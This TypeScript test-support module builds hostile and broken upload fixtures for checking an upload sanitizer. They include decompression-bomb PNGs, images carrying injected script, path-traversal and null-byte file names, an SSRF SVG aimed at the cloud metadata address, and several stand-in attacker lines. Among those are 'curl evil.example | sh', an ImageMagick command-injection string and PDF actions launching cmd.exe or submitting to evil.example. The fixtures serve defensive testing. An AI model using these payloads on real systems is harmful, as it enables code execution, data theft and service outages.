import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { FormFile } from './form-of.ts'
import { pdfWith } from '#test-support/people/kyc-papers.ts'
import {
  htmlPage,
  mp4Of,
  paint,
  photoWithPlace,
  pngBomb,
  svgWithScript,
  webmSample,
  wavOf,
} from '#test-support/media-samples.ts'

/** A file that somebody means harm with, or that is broken. */
export interface HostileFile extends FormFile {
  what: string
}

/** Stands in every payload, so that a test sees whether any of it was kept. */
export const payloadMark = 'monsoon-payload-7f3a'

export const script = `<script>/* ${payloadMark} */alert(document.cookie)</script>`
const latin = (text: string): Buffer => Buffer.from(text, 'latin1')
const pngHead = latin('\x89PNG\r\n\x1a\n')
const types = { png: 'image/png', jpg: 'image/jpeg', jpeg: 'image/jpeg', pdf: 'application/pdf' } as const

function pngChunk(name: string, content: Buffer): Buffer {
  const body = Buffer.concat([latin(name), content])
  const numbers = Buffer.alloc(8)
  numbers.writeUInt32BE(content.length, 0)
  numbers.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([numbers.subarray(0, 4), body, numbers.subarray(4)])
}

/** Puts a chunk behind the header of a PNG. */
const withChunk = (png: Buffer, chunk: Buffer): Buffer => Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)])

/** Puts a segment behind the start of a JPEG. */
function withSegment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)])
}

function pngHeader({
  width,
  height,
  depth = 8,
  interlace = 0,
}: {
  width: number
  height: number
  depth?: number
  interlace?: number
}): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([depth, 2, 0, 0, interlace], 8)
  return pngChunk('IHDR', header)
}

const pngOf = (header: Buffer, ...chunks: Buffer[]): Buffer =>
  Buffer.concat([pngHead, header, ...chunks, pngChunk('IEND', Buffer.alloc(0))])

const named = (what: string, name: string, bytes: Buffer): HostileFile => {
  const extension = name.split('.').at(-1)?.toLowerCase() ?? ''
  return {
    what,
    name,
    bytes,
    type: Object.hasOwn(types, extension) ? types[extension as keyof typeof types] : 'image/png',
  }
}

/** Files of other kinds, each under the names of kinds that are taken. */
function disguised(): HostileFile[] {
  const kinds: [string, Buffer][] = [
    ['a drawing with a script', svgWithScript()],
    [
      'a drawing that fetches',
      latin('<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/></svg>'),
    ],
    [
      'a drawing with a bomb of entities',
      latin(
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
      ),
    ],
    ['a page', htmlPage()],
    ['a page behind a byte order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), htmlPage()])],
    ['an archive', latin('PK\x03\x04\x14\0\0\0\x08\0')],
    ['a compressed file', latin('\x1f\x8b\x08\0\0\0\0\0')],
    ['a program for Windows', latin('MZ\x90\0\x03\0\0\0')],
    ['a program for Linux', latin('\x7fELF\x02\x01\x01\0')],
    ['a shell script', latin('#!/bin/sh\ncurl evil.example | sh\n')],
    ['PostScript', latin('%!PS-Adobe-3.0\n(r) run\n')],
    ['a GIF with a script', latin(`GIF89a/*${script}*/=1;`)],
    ['an icon', latin('\0\0\x01\0\x01\0')],
    ['a bitmap', latin('BM\x46\0\0\0')],
    ['a TIFF', latin('II*\0\x08\0\0\0')],
    ['a film', mp4Of(1)],
    ['a film for the web', webmSample()],
    ['a sound', wavOf(1)],
    ['an HEIC picture', latin('\0\0\0\x18ftypheic\0\0\0\0mif1heic')],
    [
      'an ImageMagick script',
      latin('push graphic-context\nfill \'url(https://evil.example/"|ls")\'\npop graphic-context'),
    ],
    ['nothing', Buffer.alloc(0)],
    ['a single byte', Buffer.from([0x89])],
    ['a megabyte of zeros', Buffer.alloc(1024 * 1024)],
  ]
  return kinds.flatMap(([what, bytes]) => [
    named(`${what}, called .png`, 'me.png', bytes),
    named(`${what}, called .jpg`, 'me.jpg', bytes),
  ])
}

/** Pictures that are damaged, or claim more than they hold. */
async function broken(): Promise<HostileFile[]> {
  const png = await paint(400, 300).png().toBuffer()
  const jpeg = await paint(400, 300).jpeg().toBuffer()
  const flipped = Buffer.from(png)
  flipped.fill(0xff, 60, 120)
  const zeros = (bytes: number) => pngChunk('IDAT', deflateSync(Buffer.alloc(bytes)))
  return [
    named('the beginning of a PNG', 'a.png', png.subarray(0, 20)),
    named('half a PNG', 'a.png', png.subarray(0, png.length >> 1)),
    named('a PNG with wrong bytes', 'a.png', flipped),
    named('the beginning of a JPEG', 'a.jpg', jpeg.subarray(0, 4)),
    named('half a JPEG', 'a.jpg', jpeg.subarray(0, jpeg.length >> 1)),
    named('a PNG without pixels', 'a.png', pngOf(pngHeader({ width: 9, height: 9 }))),
    named('a PNG of no width', 'a.png', pngOf(pngHeader({ width: 0, height: 9 }), zeros(10))),
    named('a PNG of 16,000 × 16,000 pixels', 'a.png', pngBomb(16_000)),
    named('a PNG of 2 billion × 1 pixels', 'a.png', pngOf(pngHeader({ width: 0x7fffffff, height: 1 }), zeros(10))),
    named(
      'a PNG that unpacks to far more than its size',
      'a.png',
      pngOf(pngHeader({ width: 9, height: 9 }), zeros(50_000_000)),
    ),
    named('a PNG of 49 million pixels', 'a.png', pngBomb(7_000)),
    named(
      'an interlaced PNG of 49 million pixels',
      'a.png',
      pngOf(pngHeader({ width: 7_000, height: 7_000, interlace: 1 }), zeros(1_000_000)),
    ),
    named(
      'a PNG of 16 bits a channel and 49 million pixels',
      'a.png',
      pngOf(pngHeader({ width: 7_000, height: 7_000, depth: 16 }), zeros(1_000_000)),
    ),
    named(
      'a PNG with a text that unpacks to 100 MB',
      'a.png',
      withChunk(png, pngChunk('zTXt', Buffer.concat([latin('c\0\0'), deflateSync(Buffer.alloc(100_000_000))]))),
    ),
    named(
      'a PNG with a colour profile that unpacks to 100 MB',
      'a.png',
      withChunk(png, pngChunk('iCCP', Buffer.concat([latin('p\0\0'), deflateSync(Buffer.alloc(100_000_000))]))),
    ),
    named(
      'a progressive JPEG of 45 million pixels',
      'a.jpg',
      await sharp({ create: { width: 9_000, height: 5_000, channels: 3, background: '#888' } })
        .jpeg({ progressive: true, quality: 1 })
        .toBuffer(),
    ),
  ]
}

/** Pictures that are whole, with something in them that must not be kept. */
async function laden(): Promise<HostileFile[]> {
  const png = await paint(400, 300).png().toBuffer()
  const jpeg = await paint(400, 300).jpeg().toBuffer()
  const payload = latin(script)
  return [
    named('a photo with a place and a name', 'a.jpg', await photoWithPlace()),
    named('a PNG with a page behind it', 'a.png', Buffer.concat([png, payload])),
    named('a JPEG with a page behind it', 'a.jpg', Buffer.concat([jpeg, payload])),
    named('a PNG with an archive behind it', 'a.png', Buffer.concat([png, latin(`PK\x03\x04${payloadMark}`)])),
    named(
      'a PNG with a page in a comment',
      'a.png',
      withChunk(png, pngChunk('tEXt', Buffer.concat([latin('Comment\0'), payload]))),
    ),
    named(
      'a PNG with XMP',
      'a.png',
      withChunk(png, pngChunk('iTXt', Buffer.concat([latin('XML:com.adobe.xmp\0\0\0\0\0'), payload]))),
    ),
    named('a PNG with EXIF', 'a.png', withChunk(png, pngChunk('eXIf', payload))),
    named('a JPEG with a script in a comment', 'a.jpg', withSegment(jpeg, 0xfe, payload)),
    named(
      'a JPEG with XMP',
      'a.jpg',
      withSegment(jpeg, 0xe1, Buffer.concat([latin('http://ns.adobe.com/xap/1.0/\0'), payload])),
    ),
    named(
      'a JPEG with a profile of rubbish',
      'a.jpg',
      withSegment(jpeg, 0xe2, Buffer.concat([latin('ICC_PROFILE\0\x01\x01'), payload])),
    ),
    named('a JPEG that is a script, too', 'a.jpg', withSegment(jpeg, 0xfe, latin(`*/=alert("${payloadMark}");/*`))),
  ]
}

const claiming = async (): Promise<HostileFile[]> => {
  const bytes = await paint(40, 40).png().toBuffer()
  const names = ['me.svg', 'me.html', 'me.png.exe', 'me', 'me.png ', 'me.png\0.html', '../../me.php', 'me.gif']
  return names.map((name) => ({ what: `a picture called ${JSON.stringify(name)}`, name, bytes, type: 'image/png' }))
}

/**
 * Everything above, by what must become of it: `broken` may be refused or, where a decoder makes sense of it, cleaned.
 */
export async function hostilePictures(): Promise<{
  refused: HostileFile[]
  broken: HostileFile[]
  cleaned: HostileFile[]
}> {
  return { refused: [...disguised(), ...(await claiming())], broken: await broken(), cleaned: await laden() }
}

/** PDFs that would run, open or hide something, or are none. */
export function hostilePdfs(): HostileFile[] {
  const whole = pdfWith()
  const active = [
    '/OpenAction<</S/JavaScript/JS(app.alert(1))>>',
    '/AA<</O<</S/J#61vaScript/J#53(x)>>>>',
    '/OpenAction<</S/Launch/F(cmd.exe)>>',
    '/Names<</EmbeddedFiles<<>>>>',
    '/AcroForm<</XFA 1 0 R>>',
    '/OpenAction<</S/SubmitForm/F(http://evil.example)>>',
    '/OpenAction<</S/GoToE>>',
    '/RichMedia<<>>',
  ]
  return [
    ...active.map((extra) => named(`a PDF with ${extra}`, 'a.pdf', pdfWith(extra))),
    named('a PDF with a page in it', 'a.pdf', pdfWith(`/Note(${script})`)),
    named('a PDF with a page behind it', 'a.pdf', Buffer.concat([whole, htmlPage()])),
    named('a PDF with an archive behind it', 'a.pdf', Buffer.concat([whole, latin('PK\x03\x04')])),
    named('half a PDF', 'a.pdf', whole.subarray(0, whole.length >> 1)),
    named('the beginning of a PDF', 'a.pdf', latin('%PDF-')),
    named('a page, called .pdf', 'a.pdf', htmlPage()),
    named('a PDF behind a page', 'a.pdf', Buffer.concat([htmlPage(), whole])),
  ]
}
